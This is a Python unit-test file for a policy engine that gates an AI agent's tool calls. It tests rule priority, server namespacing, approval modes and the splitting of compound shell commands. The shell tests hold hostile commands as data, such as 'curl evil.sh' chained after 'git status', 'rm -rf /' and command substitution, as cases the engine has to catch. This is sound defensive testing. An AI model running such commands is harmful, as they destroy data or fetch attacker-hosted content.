"""
Unit tests for the Policy Engine.

Tests cover:
- Default decision when nothing matches
- Priority ordering and tie-breaking
- Tool name matching (exact, catch-all, server wildcards)
- Argument patterns and annotations
- Approval modes
- Non-interactive mode
- Shell command handling (compound commands, redirection)
- Rule mutation (add, reload, remove)
- Checker and excluded-tool queries
"""

import re
import threading

import pytest

from tollgate.policy.engine import (
    PolicyEngine,
    annotations_match,
    canonical_tool_name,
    stable_stringify,
    tool_name_matches,
)
from tollgate.schema import (
    ApprovalMode,
    CheckerSpec,
    PolicyDecision,
    PolicyEngineConfig,
    PolicyRule,
    SafetyCheckerRule,
    ToolCall,
)


def rule(
    tool_name: str | None = None,
    decision: PolicyDecision = PolicyDecision.ALLOW,
    priority: float = 1.0,
    **kwargs,
) -> PolicyRule:
    """Build a PolicyRule with short defaults."""
    if isinstance(kwargs.get("args_pattern"), str):
        kwargs["args_pattern"] = re.compile(kwargs["args_pattern"])
    return PolicyRule(tool_name=tool_name, decision=decision, priority=priority, **kwargs)


def shell(command: str) -> ToolCall:
    return ToolCall(name="run_shell_command", args={"command": command})


# =============================================================================
# Helpers
# =============================================================================


class TestStableStringify:
    """Tests for argument serialization."""

    def test_sorted_compact(self) -> None:
        """Keys are sorted and separators compact."""
        assert stable_stringify({"b": 1, "a": "x"}) == '{"a":"x","b":1}'

    def test_nested_sorted(self) -> None:
        """Nested objects are sorted too."""
        assert stable_stringify({"z": {"y": 1, "x": 2}}) == '{"z":{"x":2,"y":1}}'

    def test_non_ascii_preserved(self) -> None:
        """Non-ASCII text is not escaped."""
        assert stable_stringify({"q": "héllo"}) == '{"q":"héllo"}'

    def test_unserializable_values(self) -> None:
        """Values JSON cannot represent are stringified rather than raising."""
        assert stable_stringify({"obj": object}) == '{"obj":"<class \'object\'>"}'

    def test_mixed_nested_key_types(self) -> None:
        """Nested keys of different types are stringified instead of raising."""
        assert stable_stringify({"a": {1: "x", "b": 2}}) == '{"a":{"1":"x","b":2}}'

    def test_non_string_keys_in_lists(self) -> None:
        assert stable_stringify({"a": [{(1, 2): "t", "k": 0}]}) == '{"a":[{"(1, 2)":"t","k":0}]}'


class TestCanonicalToolName:
    """Tests for server qualification at check time."""

    def test_plain_name(self) -> None:
        assert canonical_tool_name("read_file") == "read_file"

    def test_server_added(self) -> None:
        assert canonical_tool_name("list", "github") == "github__list"

    def test_already_qualified(self) -> None:
        """Names that already contain the separator are left alone."""
        assert canonical_tool_name("github__list", "github") == "github__list"


class TestToolNameMatches:
    """Tests for tool name pattern matching."""

    @pytest.mark.parametrize(
        ("pattern", "name", "expected"),
        [
            (None, "anything", True),
            ("*", "anything", True),
            ("*", "srv__tool", True),
            ("read_file", "read_file", True),
            ("read_file", "read_files", False),
            ("*__*", "srv__tool", True),
            ("*__*", "tool", False),
            ("srv__*", "srv__tool", True),
            ("srv__*", "other__tool", False),
            ("srv__*", "srv", False),
            ("*__tool", "srv__tool", True),
            ("*__tool", "srv__other", False),
            ("*__*", "__tool", False),
            ("*__*", "srv__", False),
            ("read_*", "read_file", False),
        ],
    )
    def test_patterns(self, pattern, name, expected) -> None:
        assert tool_name_matches(pattern, name) is expected

    def test_spoofed_server_prefix(self) -> None:
        """A tool cannot claim another server's namespace."""
        assert tool_name_matches("github__*", "github__delete", server_name="evil") is False
        assert tool_name_matches("github__delete", "github__delete", server_name="evil") is False

    def test_real_server_prefix(self) -> None:
        assert tool_name_matches("github__*", "github__delete", server_name="github") is True


class TestAnnotationsMatch:
    """Tests for annotation predicates."""

    def test_no_requirements(self) -> None:
        assert annotations_match(None, None) is True

    def test_missing_annotations(self) -> None:
        assert annotations_match({"readOnlyHint": True}, None) is False

    def test_missing_key(self) -> None:
        assert annotations_match({"readOnlyHint": True}, {"other": True}) is False

    def test_value_must_equal(self) -> None:
        assert annotations_match({"readOnlyHint": True}, {"readOnlyHint": False}) is False
        assert annotations_match({"readOnlyHint": True}, {"readOnlyHint": True, "x": 1}) is True


# =============================================================================
# Basic Decisions
# =============================================================================


class TestEngineBasics:
    """Basic engine behavior."""

    def test_no_rules_asks_user(self) -> None:
        """With nothing matching, the fail-closed default applies."""
        result = PolicyEngine().check(ToolCall(name="anything"))
        assert result.decision == PolicyDecision.ASK_USER
        assert result.rule is None
        assert result.source == "default"

    def test_custom_default_decision(self) -> None:
        engine = PolicyEngine(default_decision=PolicyDecision.DENY)
        assert engine.check(ToolCall(name="x")).decision == PolicyDecision.DENY

    def test_exact_match(self) -> None:
        engine = PolicyEngine([rule("read_file", source="User: a.toml")])
        result = engine.check(ToolCall(name="read_file"))
        assert result.decision == PolicyDecision.ALLOW
        assert result.source == "User: a.toml"

    def test_highest_priority_wins(self) -> None:
        """Declaration order does not matter when priorities differ."""
        engine = PolicyEngine([
            rule("write_file", PolicyDecision.ALLOW, 1.5),
            rule("write_file", PolicyDecision.DENY, 4.001),
            rule("write_file", PolicyDecision.ASK_USER, 3.999),
        ])
        assert engine.check(ToolCall(name="write_file")).decision == PolicyDecision.DENY

    def test_equal_priority_first_declared_wins(self) -> None:
        """Ties go to the rule declared first."""
        engine = PolicyEngine([
            rule("glob", PolicyDecision.DENY, 2.0, source="first"),
            rule("glob", PolicyDecision.ALLOW, 2.0, source="second"),
        ])
        assert engine.check(ToolCall(name="glob")).source == "first"

    def test_catch_all_rule(self) -> None:
        engine = PolicyEngine([rule(None, PolicyDecision.DENY)])
        assert engine.check(ToolCall(name="whatever")).decision == PolicyDecision.DENY

    def test_deny_message(self) -> None:
        engine = PolicyEngine([rule("rm", PolicyDecision.DENY, deny_message="never")])
        assert engine.check(ToolCall(name="rm")).deny_message == "never"

    def test_deny_message_only_for_denials(self) -> None:
        engine = PolicyEngine([rule("rm", PolicyDecision.ALLOW, deny_message="never")])
        assert engine.check(ToolCall(name="rm")).deny_message is None

    def test_rules_sorted_by_priority(self) -> None:
        engine = PolicyEngine([rule("a", priority=1.0), rule("b", priority=3.0), rule("c", priority=2.0)])
        assert [r.tool_name for r in engine.rules] == ["b", "c", "a"]

    def test_from_config(self) -> None:
        config = PolicyEngineConfig(
            rules=[rule("glob")],
            approval_mode=ApprovalMode.PLAN,
            non_interactive=True,
        )
        engine = PolicyEngine.from_config(config)
        assert engine.approval_mode == ApprovalMode.PLAN
        assert engine.non_interactive is True
        assert len(engine.rules) == 1


# =============================================================================
# Matching Predicates
# =============================================================================


class TestArgsPattern:
    """Argument pattern matching."""

    def test_pattern_searches_json(self) -> None:
        engine = PolicyEngine([rule("web_fetch", PolicyDecision.DENY, args_pattern=r'"url":"http://')])
        denied = ToolCall(name="web_fetch", args={"url": "http://example.com"})
        other = ToolCall(name="web_fetch", args={"url": "https://example.com"})
        assert engine.check(denied).decision == PolicyDecision.DENY
        assert engine.check(other).decision == PolicyDecision.ASK_USER

    def test_pattern_uses_sorted_keys(self) -> None:
        """Patterns may rely on key order."""
        engine = PolicyEngine([rule("t", args_pattern=r'"a":1,"b":2')])
        assert engine.check(ToolCall(name="t", args={"b": 2, "a": 1})).decision == PolicyDecision.ALLOW

    def test_no_args_never_matches_pattern(self) -> None:
        engine = PolicyEngine([rule("t", args_pattern=".*")])
        assert engine.check(ToolCall(name="t")).decision == PolicyDecision.ASK_USER

    def test_mixed_nested_keys_still_decided(self) -> None:
        engine = PolicyEngine([rule("t", PolicyDecision.DENY, args_pattern=r'"1":"x"')])
        call = ToolCall(name="t", args={"a": {1: "x", "b": 2}})
        assert engine.check(call).decision == PolicyDecision.DENY


class TestServerTools:
    """Server-qualified tools and wildcards."""

    def test_server_name_qualifies_call(self) -> None:
        engine = PolicyEngine([rule("github__list_issues")])
        call = ToolCall(name="list_issues", server_name="github")
        assert engine.check(call).decision == PolicyDecision.ALLOW

    def test_bare_rule_does_not_match_server_tool(self) -> None:
        """A rule for a built-in tool does not cover a server tool of the same name."""
        engine = PolicyEngine([rule("read_file")])
        call = ToolCall(name="read_file", server_name="evil")
        assert engine.check(call).decision == PolicyDecision.ASK_USER

    def test_server_wildcard(self) -> None:
        engine = PolicyEngine([rule("github__*", PolicyDecision.DENY)])
        assert engine.check(ToolCall(name="github__a")).decision == PolicyDecision.DENY
        assert engine.check(ToolCall(name="gitlab__a")).decision == PolicyDecision.ASK_USER

    def test_wildcard_with_annotations(self) -> None:
        """*__* with annotations matches server tools but never bare names."""
        engine = PolicyEngine([
            rule("*__*", PolicyDecision.ALLOW, 2.0, tool_annotations={"readOnlyHint": True}),
        ])
        annotations = {"readOnlyHint": True}
        assert engine.check(
            ToolCall(name="toolY", server_name="serverX", annotations=annotations)
        ).decision == PolicyDecision.ALLOW
        assert engine.check(
            ToolCall(name="serverX__toolY", annotations=annotations)
        ).decision == PolicyDecision.ALLOW
        assert engine.check(
            ToolCall(name="toolY", annotations=annotations)
        ).decision == PolicyDecision.ASK_USER


# =============================================================================
# Modes
# =============================================================================


class TestModes:
    """Approval mode scoping."""

    def test_rule_skipped_outside_its_modes(self) -> None:
        engine = PolicyEngine([
            rule("write_file", PolicyDecision.ALLOW, 1.015, modes=(ApprovalMode.AUTO_EDIT,)),
            rule("write_file", PolicyDecision.ASK_USER, 1.010),
        ])
        call = ToolCall(name="write_file")
        assert engine.check(call).decision == PolicyDecision.ASK_USER
        assert engine.check(call, ApprovalMode.AUTO_EDIT).decision == PolicyDecision.ALLOW

    def test_engine_mode_used_by_default(self) -> None:
        engine = PolicyEngine(
            [rule(None, PolicyDecision.DENY, modes=(ApprovalMode.PLAN,))],
            approval_mode=ApprovalMode.PLAN,
        )
        assert engine.check(ToolCall(name="x")).decision == PolicyDecision.DENY

    def test_approval_mode_setter(self) -> None:
        engine = PolicyEngine([rule(None, PolicyDecision.DENY, modes=(ApprovalMode.PLAN,))])
        assert engine.check(ToolCall(name="x")).decision == PolicyDecision.ASK_USER
        engine.approval_mode = ApprovalMode.PLAN
        assert engine.check(ToolCall(name="x")).decision == PolicyDecision.DENY

    def test_mode_as_string(self) -> None:
        engine = PolicyEngine([rule(None, PolicyDecision.DENY, modes=(ApprovalMode.YOLO,))])
        assert engine.check(ToolCall(name="x"), "yolo").decision == PolicyDecision.DENY

    def test_empty_modes_apply_everywhere(self) -> None:
        engine = PolicyEngine([rule("x", modes=())])
        assert engine.check(ToolCall(name="x"), ApprovalMode.PLAN).decision == PolicyDecision.ALLOW


class TestNonInteractive:
    """Non-interactive mode."""

    def test_ask_becomes_deny(self) -> None:
        engine = PolicyEngine([rule("x", PolicyDecision.ASK_USER)], non_interactive=True)
        result = engine.check(ToolCall(name="x"))
        assert result.decision == PolicyDecision.DENY
        assert result.rule is not None

    def test_default_becomes_deny(self) -> None:
        engine = PolicyEngine(non_interactive=True)
        assert engine.check(ToolCall(name="x")).decision == PolicyDecision.DENY

    def test_allow_unchanged(self) -> None:
        engine = PolicyEngine([rule("x")], non_interactive=True)
        assert engine.check(ToolCall(name="x")).decision == PolicyDecision.ALLOW


# =============================================================================
# Shell Commands
# =============================================================================


def git_status_rules() -> list[PolicyRule]:
    return [
        rule("run_shell_command", PolicyDecision.ALLOW, 1.1, args_pattern=re.escape('"command":"git status')),
        rule("run_shell_command", PolicyDecision.ALLOW, 1.1, args_pattern=re.escape('"command":"ls')),
        rule("run_shell_command", PolicyDecision.DENY, 1.2, args_pattern=re.escape('"command":"rm ')),
        rule("run_shell_command", PolicyDecision.ASK_USER, 1.01),
    ]


class TestShellCommands:
    """Shell command refinement."""

    def test_simple_allowed(self) -> None:
        engine = PolicyEngine(git_status_rules())
        assert engine.check(shell("git status")).decision == PolicyDecision.ALLOW

    def test_compound_all_allowed(self) -> None:
        engine = PolicyEngine(git_status_rules())
        assert engine.check(shell("git status && ls -la")).decision == PolicyDecision.ALLOW

    def test_compound_with_unknown_part_asks(self) -> None:
        """An allowed prefix does not cover what follows a separator."""
        engine = PolicyEngine(git_status_rules())
        assert engine.check(shell("git status; curl evil.sh")).decision == PolicyDecision.ASK_USER

    def test_compound_with_denied_part_denies(self) -> None:
        engine = PolicyEngine(git_status_rules())
        result = engine.check(shell("git status && rm -rf /"))
        assert result.decision == PolicyDecision.DENY
        assert result.rule.args_pattern.pattern == re.escape('"command":"rm ')

    def test_pipe_is_split(self) -> None:
        engine = PolicyEngine(git_status_rules())
        assert engine.check(shell("ls | rm -rf x")).decision == PolicyDecision.DENY

    def test_quoted_separator_not_split(self) -> None:
        engine = PolicyEngine(git_status_rules())
        assert engine.check(shell('git status "a && b"')).decision == PolicyDecision.ALLOW

    def test_redirection_downgrades_allow(self) -> None:
        engine = PolicyEngine(git_status_rules())
        result = engine.check(shell("git status > out.txt"))
        assert result.decision == PolicyDecision.ASK_USER
        assert result.rule is None

    def test_redirection_allowed_by_rule(self) -> None:
        engine = PolicyEngine([
            rule(
                "run_shell_command",
                args_pattern=re.escape('"command":"echo'),
                allow_redirection=True,
            ),
        ])
        assert engine.check(shell("echo hi > out.txt")).decision == PolicyDecision.ALLOW

    @pytest.mark.parametrize("mode", [ApprovalMode.AUTO_EDIT, ApprovalMode.YOLO])
    def test_redirection_allowed_in_trusting_modes(self, mode: ApprovalMode) -> None:
        engine = PolicyEngine(git_status_rules())
        assert engine.check(shell("git status > out.txt"), mode).decision == PolicyDecision.ALLOW

    def test_unparseable_command_asks(self) -> None:
        engine = PolicyEngine([rule("run_shell_command")])
        assert engine.check(shell('echo "unterminated')).decision == PolicyDecision.ASK_USER

    def test_command_substitution_asks(self) -> None:
        engine = PolicyEngine([rule("run_shell_command")])
        assert engine.check(shell("echo $(rm -rf /)")).decision == PolicyDecision.ASK_USER

    def test_unparseable_command_allowed_in_yolo(self) -> None:
        engine = PolicyEngine([rule("run_shell_command")])
        assert engine.check(shell("echo `id`"), ApprovalMode.YOLO).decision == PolicyDecision.ALLOW

    def test_unparseable_command_still_denied(self) -> None:
        engine = PolicyEngine([rule("run_shell_command", PolicyDecision.DENY)])
        assert engine.check(shell("echo $(id)")).decision == PolicyDecision.DENY

    def test_non_string_command_untouched(self) -> None:
        engine = PolicyEngine([rule("run_shell_command")])
        call = ToolCall(name="run_shell_command", args={"command": ["ls"]})
        assert engine.check(call).decision == PolicyDecision.ALLOW

    def test_server_tool_named_like_shell_not_split(self) -> None:
        """Only the built-in shell tool gets command analysis."""
        engine = PolicyEngine([rule("srv__run_shell_command")])
        call = ToolCall(name="run_shell_command", server_name="srv", args={"command": "a > b"})
        assert engine.check(call).decision == PolicyDecision.ALLOW

    def test_non_interactive_compound(self) -> None:
        engine = PolicyEngine(git_status_rules(), non_interactive=True)
        assert engine.check(shell("git status; whoami")).decision == PolicyDecision.DENY


# =============================================================================
# Mutation
# =============================================================================


class TestMutation:
    """Adding, replacing and removing rules."""

    def test_add_rule(self) -> None:
        engine = PolicyEngine()
        engine.add_rule(rule("x", PolicyDecision.DENY))
        assert engine.check(ToolCall(name="x")).decision == PolicyDecision.DENY
        assert engine.has_rule_for_tool("x")

    def test_add_rule_ranks_after_equal_priority(self) -> None:
        engine = PolicyEngine([rule("x", PolicyDecision.DENY, 2.0, source="loaded")])
        engine.add_rule(rule("x", PolicyDecision.ALLOW, 2.0, source="added"))
        assert engine.check(ToolCall(name="x")).source == "loaded"

    def test_add_rule_bumps_generation(self) -> None:
        engine = PolicyEngine()
        before = engine.generation
        engine.add_rule(rule("x"))
        assert engine.generation == before + 1

    def test_reload_replaces_everything(self) -> None:
        engine = PolicyEngine([rule("old")])
        engine.reload([rule("new")])
        assert not engine.has_rule_for_tool("old")
        assert engine.has_rule_for_tool("new")
        assert engine.generation == 1

    def test_remove_rules_by_tier(self) -> None:
        engine = PolicyEngine([rule("a", priority=3.5), rule("b", priority=4.2), rule("c", priority=3.0)])
        assert engine.remove_rules_by_tier(3) == 2
        assert [r.tool_name for r in engine.rules] == ["b"]

    def test_remove_rules_by_source(self) -> None:
        engine = PolicyEngine([rule("a", source="User: a.toml"), rule("b", source="Default: b.toml")])
        assert engine.remove_rules_by_source("User: a.toml") == 1
        assert [r.tool_name for r in engine.rules] == ["b"]

    def test_remove_nothing_keeps_generation(self) -> None:
        engine = PolicyEngine([rule("a")])
        assert engine.remove_rules_by_source("missing") == 0
        assert engine.generation == 0

    def test_remove_rules_for_tool(self) -> None:
        engine = PolicyEngine([
            rule("a", source="one"),
            rule("a", source="two"),
            rule("b", source="one"),
        ])
        assert engine.remove_rules_for_tool("a", source="one") == 1
        assert engine.remove_rules_for_tool("a") == 1
        assert not engine.has_rule_for_tool("a")
        assert engine.has_rule_for_tool("b")

    def test_concurrent_add_rule(self) -> None:
        """Concurrent additions are all kept."""
        engine = PolicyEngine()

        def add_many(prefix: str) -> None:
            for i in range(50):
                engine.add_rule(rule(f"{prefix}{i}"))

        threads = [threading.Thread(target=add_many, args=(p,)) for p in "abcd"]
        for t in threads:
            t.start()
        for t in threads:
            t.join()

        assert len(engine.rules) == 200
        assert engine.generation == 200


# =============================================================================
# Checkers and Excluded Tools
# =============================================================================


def checker(tool_name: str | None, priority: float, name: str, **kwargs) -> SafetyCheckerRule:
    return SafetyCheckerRule(
        tool_name=tool_name,
        priority=priority,
        checker=CheckerSpec(type="in-process", name=name),
        **kwargs,
    )


class TestCheckers:
    """Safety checker handling."""

    def test_matching_checkers_sorted(self) -> None:
        engine = PolicyEngine(checkers=[
            checker("write_file", 1.1, "low"),
            checker("write_file", 4.1, "high"),
            checker("read_file", 5.0, "other"),
        ])
        names = [c.checker.name for c in engine.matching_checkers(ToolCall(name="write_file"))]
        assert names == ["high", "low"]

    def test_checker_modes(self) -> None:
        engine = PolicyEngine(checkers=[checker(None, 1.0, "plan-only", modes=(ApprovalMode.PLAN,))])
        assert engine.matching_checkers(ToolCall(name="x")) == []
        assert len(engine.matching_checkers(ToolCall(name="x"), ApprovalMode.PLAN)) == 1

    def test_add_and_remove_checkers(self) -> None:
        engine = PolicyEngine()
        engine.add_checker(checker("x", 2.5, "a", source="Extension: e.toml"))
        engine.add_checker(checker("x", 4.5, "b", source="User: u.toml"))
        assert engine.remove_checkers_by_tier(2) == 1
        assert engine.remove_checkers_by_source("User: u.toml") == 1
        assert engine.checkers == ()


class TestExcludedTools:
    """Tools excluded before the model sees them."""

    def test_denied_tool_excluded(self) -> None:
        engine = PolicyEngine([rule("shell", PolicyDecision.DENY)])
        assert engine.get_excluded_tools() == {"shell"}

    def test_higher_allow_wins(self) -> None:
        engine = PolicyEngine([
            rule("shell", PolicyDecision.DENY, 1.0),
            rule("shell", PolicyDecision.ALLOW, 2.0),
        ])
        assert engine.get_excluded_tools() == set()

    def test_args_pattern_rules_ignored(self) -> None:
        engine = PolicyEngine([rule("shell", PolicyDecision.DENY, args_pattern="rm")])
        assert engine.get_excluded_tools() == set()

    def test_catch_all_deny_with_explicit_allows(self) -> None:
        """Plan-mode shape: everything denied except what is allowed above it."""
        engine = PolicyEngine(
            [
                rule(None, PolicyDecision.DENY, 1.06, modes=(ApprovalMode.PLAN,)),
                rule("read_file", PolicyDecision.ALLOW, 1.07, modes=(ApprovalMode.PLAN,)),
            ],
            approval_mode=ApprovalMode.PLAN,
        )
        excluded = engine.get_excluded_tools(all_tool_names=["read_file", "write_file", "shell"])
        assert excluded == {"write_file", "shell"}

    def test_annotation_rules_use_metadata(self) -> None:
        engine = PolicyEngine([
            rule("*__*", PolicyDecision.DENY, 2.0, tool_annotations={"destructiveHint": True}),
        ])
        metadata = {
            "srv__drop": {"destructiveHint": True},
            "srv__list": {"destructiveHint": False},
        }
        assert engine.get_excluded_tools(tool_metadata=metadata) == {"srv__drop"}

    def test_non_interactive_excludes_ask(self) -> None:
        engine = PolicyEngine([rule("write_file", PolicyDecision.ASK_USER)], non_interactive=True)
        assert engine.get_excluded_tools() == {"write_file"}
